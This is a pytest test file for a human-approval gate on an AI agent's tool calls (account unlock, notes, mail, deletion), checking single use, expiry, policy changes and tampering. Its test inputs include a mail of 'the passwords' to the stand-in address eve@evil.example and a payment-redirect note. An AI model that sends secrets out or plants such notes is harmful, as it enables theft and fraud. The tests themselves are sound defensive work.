"""An approval is for exactly one call, once, and is checked again when it is used."""

import asyncio
from datetime import timedelta

import pytest

from gaby.kernel.clock import ManualClock
from gaby.kernel.database.short_ids import short_ids
from gaby.kernel.errors import BadRequest, Invalid, NotFound
from gaby.kernel.ids import ApprovalId
from gaby.safety import AccessRules, Dictionary, Scopes
from gaby.tools import Asked, Denied, Done, Run
from gaby.tools.approval_ids import find_approval
from gaby.tools.connectors import PolicyChange
from gaby.tools.errors import ApprovalClosed, ApprovalExpired, ApprovalIdAmbiguous, ReasonMissing
from gaby.tools.models import Approval
from gaby_connectors.sdk.manifest import Autonomy
from tests.tools.scenes import EVERYTHING, Scene

pytestmark = pytest.mark.promise("S6")


async def ask(desk: Scene, run: Run, tool: str = "unlock", **arguments: str) -> ApprovalId:
    outcome = await desk.invoke(run, tool, **(arguments or {"account_id": "acc-2002"}))
    assert isinstance(outcome, Asked)
    return outcome.approval_id


def pending(desk: Scene) -> float | None:
    labels = {"workspace": str(desk.workspace_id)}
    return desk.gaby.metrics.registry.get_sample_value("gaby_approvals_pending", labels)


async def test_nothing_happens_until_somebody_approves_and_then_exactly_what_was_shown(desk: Scene) -> None:
    run = desk.run()
    approval_id = await ask(desk, run)
    assert desk.effects == []
    assert pending(desk) == 1
    await desk.decide(approval_id)
    assert pending(desk) == 0
    assert isinstance(await desk.apply(run, approval_id), Done)
    assert desk.effects == ["unlock acc-2002"]
    events = [event for event in await desk.audited() if event.startswith("approval.")]
    assert events == ["approval.requested", "approval.approved", "approval.used"]


async def test_the_person_sees_a_rehearsal(desk: Scene) -> None:
    approval_id = await ask(desk, desk.run())
    async with desk.gaby.database.read(desk.workspace_id) as session:
        (row,) = await desk.gaby.tools.approvals.list(session)
        assert row.typed_id == approval_id
        assert row.preview == {"shown": {"done": "unlock acc-2002, which is locked", "dry_run": True}}
        assert row.concerns[0]["rule"] == "provenance"
    assert desk.effects == []


async def test_an_approval_is_found_by_the_beginning_of_its_id_unless_several_begin_so(desk: Scene) -> None:
    run = desk.run()
    first, second = await ask(desk, run), await ask(desk, run, account_id="acc-3003")
    async with desk.gaby.database.read(desk.workspace_id) as session:
        shortened = await short_ids(session, [first, second], Approval)
        assert len({*shortened.values()}) == 2
        for approval_id, beginning in shortened.items():
            assert await find_approval(session, beginning) == approval_id
            assert await find_approval(session, str(approval_id)) == approval_id
            assert await find_approval(session, approval_id.hex.upper()) == approval_id
            with pytest.raises(ApprovalIdAmbiguous):
                await find_approval(session, beginning[:-1])
        # An approval that is not in the list counts as well.
        assert await short_ids(session, [first], Approval) == {first: shortened[first]}
        for wrong in ("", first.hex[:7], f"{first.hex}0", "g" * 8):
            with pytest.raises(BadRequest):
                await find_approval(session, wrong)
        with pytest.raises(NotFound):
            await find_approval(session, "00000000")


async def test_an_approval_works_once(desk: Scene) -> None:
    run = desk.run()
    approval_id = await ask(desk, run)
    await desk.decide(approval_id)
    await desk.apply(run, approval_id)
    again = await desk.apply(run, approval_id)
    assert isinstance(again, Denied)
    assert again.verdict.rule == "approval.unusable"
    assert desk.effects == ["unlock acc-2002"]


async def test_two_who_apply_at_once_get_one_effect(desk: Scene) -> None:
    run = desk.run()
    approval_id = await ask(desk, run)
    await desk.decide(approval_id)
    outcomes = await asyncio.gather(*(desk.apply(run, approval_id) for _ in range(4)), return_exceptions=True)
    assert sum(isinstance(outcome, Done) for outcome in outcomes) == 1
    assert all(isinstance(each, Done | Denied | ApprovalClosed) for each in outcomes), outcomes
    assert desk.effects == ["unlock acc-2002"]


async def test_of_two_who_decide_at_once_one_is_told_the_name_of_the_other(desk: Scene) -> None:
    approval_id = await ask(desk, desk.run())
    answers = await asyncio.gather(
        desk.decide(approval_id), desk.decide(approval_id, "refuse", reason="no"), return_exceptions=True
    )
    (lost,) = [each for each in answers if isinstance(each, BaseException)]
    assert isinstance(lost, ApprovalClosed)
    assert lost.status == 409
    assert lost.message.startswith("agent has decided this already: it is ")


async def test_what_was_refused_or_never_decided_cannot_be_used(desk: Scene) -> None:
    run = desk.run()
    waiting, refused, escalated = [await ask(desk, run) for _ in range(3)]
    with pytest.raises(ReasonMissing):
        await desk.decide(refused, "refuse")
    await desk.decide(refused, "refuse", reason="Not their account.")
    await desk.decide(escalated, "escalate", reason="Ask the lead.")
    for approval_id in (waiting, refused, escalated):
        outcome = await desk.apply(run, approval_id)
        assert isinstance(outcome, Denied)
        assert outcome.verdict.rule == "approval.unusable"
    assert desk.effects == []


async def test_an_approval_expires(desk: Scene, clock: ManualClock) -> None:
    run = desk.run()
    late, in_time = await ask(desk, run), await ask(desk, run)
    await desk.decide(in_time)
    clock.advance(timedelta(hours=24))
    outcome = await desk.apply(run, in_time)
    assert isinstance(outcome, Denied)
    assert outcome.verdict.rule == "approval.expired"
    with pytest.raises(ApprovalExpired):
        await desk.decide(late)
    assert await desk.gaby.tools.expire_approvals() == 2
    assert await desk.gaby.tools.expire_approvals() == 0
    assert (await desk.audited()).count("approval.expired") == 2
    assert desk.effects == []


async def test_another_run_cannot_use_it(desk: Scene) -> None:
    approval_id = await ask(desk, desk.run())
    await desk.decide(approval_id)
    outcome = await desk.apply(desk.run(), approval_id)
    assert isinstance(outcome, Denied)
    assert outcome.verdict.rule == "approval.altered"
    assert desk.effects == []


@pytest.mark.parametrize(
    "change",
    [
        PolicyChange(scopes=Scopes(read=AccessRules(allow=("**",)), write=AccessRules(allow=("accounts/**",)))),
        PolicyChange(autonomy=Autonomy.PROPOSE),
        PolicyChange(writes_per_minute=5),
    ],
)
async def test_a_change_of_policy_after_the_approval_voids_it(desk: Scene, change: PolicyChange) -> None:
    run = desk.run()
    approval_id = await ask(desk, run)
    await desk.decide(approval_id)
    await desk.limit("desk", change)
    outcome = await desk.apply(run, approval_id)
    assert isinstance(outcome, Denied)
    assert outcome.verdict.rule == "approval.altered"
    assert desk.effects == []


async def test_a_rule_that_forbids_it_meanwhile_beats_the_approval(desk: Scene) -> None:
    run = desk.run()
    approval_id = await ask(desk, run)
    await desk.decide(approval_id)
    denied = Scopes(read=EVERYTHING.read, write=AccessRules(allow=("**",), deny=("accounts/*/unlock",)))
    await desk.limit("desk", PolicyChange(scopes=denied))
    outcome = await desk.apply(run, approval_id)
    assert isinstance(outcome, Denied)
    assert outcome.verdict.rule == "scope.denied"


async def test_a_target_that_changed_since_it_was_shown_is_not_touched(desk: Scene) -> None:
    run = desk.run()
    approval_id = await ask(desk, run)
    await desk.decide(approval_id)
    (desk.folder / "state").write_text("already unlocked by somebody")
    outcome = await desk.apply(run, approval_id)
    assert isinstance(outcome, Denied)
    assert outcome.verdict.rule == "approval.target_changed"
    assert desk.effects == []


async def test_an_altered_row_is_not_honoured(desk: Scene) -> None:
    run = desk.run()
    approval_id = await ask(desk, run)
    await desk.decide(approval_id)
    async with desk.gaby.database.write(desk.workspace_id) as session:
        row = await desk.gaby.tools.approvals.get(session, approval_id)
        row.expires_at += timedelta(days=300)
    outcome = await desk.apply(run, approval_id)
    assert isinstance(outcome, Denied)
    assert outcome.verdict.rule == "approval.altered"


async def test_a_person_may_approve_other_arguments_instead(desk: Scene) -> None:
    run = desk.run()
    approval_id = await ask(desk, run)
    with pytest.raises(Invalid, match="do not fit"):
        await desk.decide(approval_id, arguments={"account": "acc-1001"})
    row = await desk.decide(approval_id, arguments={"account_id": "acc-1001"})
    assert row.modified
    assert isinstance(await desk.apply(run, approval_id), Done)
    assert desk.effects == ["unlock acc-1001"]


async def agreed(desk: Scene, run: Run, tool: str, **arguments: str) -> None:
    """Somebody is asked about the call, agrees, and it is made."""
    approval_id = await ask(desk, run, tool, **arguments)
    await desk.decide(approval_id)
    assert isinstance(await desk.apply(run, approval_id), Done)


async def test_an_approval_vouches_for_the_one_call_and_for_nothing_else(desk: Scene) -> None:
    run = desk.run()
    await agreed(desk, run, "add_note", account_id="acc-2002", text="seen")
    assert isinstance(await desk.invoke(run, "add_note", account_id="acc-2002", text="pay here from now on"), Asked)
    assert isinstance(await desk.invoke(run, "add_note", account_id="acc-1001", text="seen"), Asked)
    # An approved note lets nothing dangerous happen to the same account.
    assert isinstance(await desk.invoke(run, "unlock", account_id="acc-2002"), Asked)
    assert isinstance(await desk.invoke(run, "delete_account", account_id="acc-2002"), Asked)


async def test_the_same_change_twice_in_a_run_asks(desk: Scene) -> None:
    run = desk.run(words="unlock acc-1001, and note that on acc-1001")
    assert isinstance(await desk.invoke(run, "unlock", account_id="acc-1001"), Done)
    again = await desk.invoke(run, "unlock", account_id="acc-1001")
    assert isinstance(again, Asked)
    assert again.verdict.rule == "repeated"
    for text in ("one", "two"):
        assert isinstance(await desk.invoke(run, "add_note", account_id="acc-1001", text=text), Done), (
            "notes may follow"
        )


async def test_the_same_change_in_another_spelling_asks(desk: Scene) -> None:
    run = desk.run(words="unlock acc-1001, I mean ACC-1001")
    assert isinstance(await desk.invoke(run, "unlock", account_id="acc-1001"), Done)
    again = await desk.invoke(run, "unlock", account_id="ACC-1001")
    assert isinstance(again, Asked)
    assert again.verdict.rule == "repeated"
    assert desk.effects == ["unlock acc-1001"]


async def test_whoever_agreed_to_something_dangerous_is_asked_again(desk: Scene) -> None:
    run = desk.run()
    await agreed(desk, run, "unlock", account_id="acc-2002")
    assert isinstance(await desk.invoke(run, "unlock", account_id="acc-2002"), Asked)


async def test_whoever_agreed_to_one_mail_has_not_agreed_to_the_next(desk: Scene) -> None:
    run = desk.run()
    await agreed(desk, run, "send_mail", to="eve@evil.example", body="hello")
    assert isinstance(await desk.invoke(run, "send_mail", to="eve@evil.example", body="and the passwords"), Asked)


async def test_the_arguments_are_sealed_and_only_a_redacted_copy_is_in_clear(desk: Scene) -> None:
    approval_id = await ask(desk, desk.run(), "send_mail", to="eve@evil.example", body="hello")
    async with desk.gaby.database.read(desk.workspace_id) as session:
        row = await desk.gaby.tools.approvals.get(session, approval_id)
        assert "eve@evil.example" not in f"{row.shown}{row.sealed_call}{row.concerns}"
        sealed = await desk.gaby.tools.approvals.call_of(session, row)
        assert sealed.arguments == {"to": "eve@evil.example", "body": "hello"}


async def test_an_answer_names_nobody_whom_the_question_did_not_name(desk: Scene) -> None:
    """The people of the run are not known any more when somebody edits the call."""
    run = desk.gaby.tools.run(desk.actor, dictionary=Dictionary.of_people(names=["Jonas Lindqvist"]))
    approval_id = await ask(desk, run, "send_mail", to="eve@evil.example", body="Dear Jonas Lindqvist, hello")
    row = await desk.decide(approval_id, arguments={"to": "eve@evil.example", "body": "Jonas Lindqvist, good day"})
    assert row.modified
    assert "Lindqvist" not in str(row.shown)
    assert "Lindqvist" not in str(await desk.rows())


async def test_an_approval_of_another_workspace_does_not_exist(desk: Scene) -> None:
    approval_id = await ask(desk, desk.run())
    from_elsewhere = ApprovalId(desk.gaby.ids.new())
    with pytest.raises(NotFound):
        await desk.decide(from_elsewhere)
    assert (await desk.decide(approval_id)).state == "approved"
